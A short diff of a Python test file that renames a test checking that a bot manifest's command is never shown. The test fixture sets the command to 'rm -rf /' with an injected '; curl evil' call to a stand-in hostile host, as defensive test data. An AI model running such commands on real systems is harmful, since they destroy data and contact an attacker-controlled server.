@@ -119,7 +119,7 @@ def test_a_bot_file_that_only_the_manifest_names_is_not_loaded(run: Path, tmp_pa
     assert mark.exists()
 
 
-def test_the_command_of_a_manifest_is_never_told(run: Path, citadels: Speak) -> None:
+def test_the_command_of_a_manifest_is_never_shown(run: Path, citadels: Speak) -> None:
     manifest = read_data(run) | {"command": ["rm", "-rf", "/", "; curl evil"], "state": "running"}
     write_data(run, manifest)
     for words in readers(run):
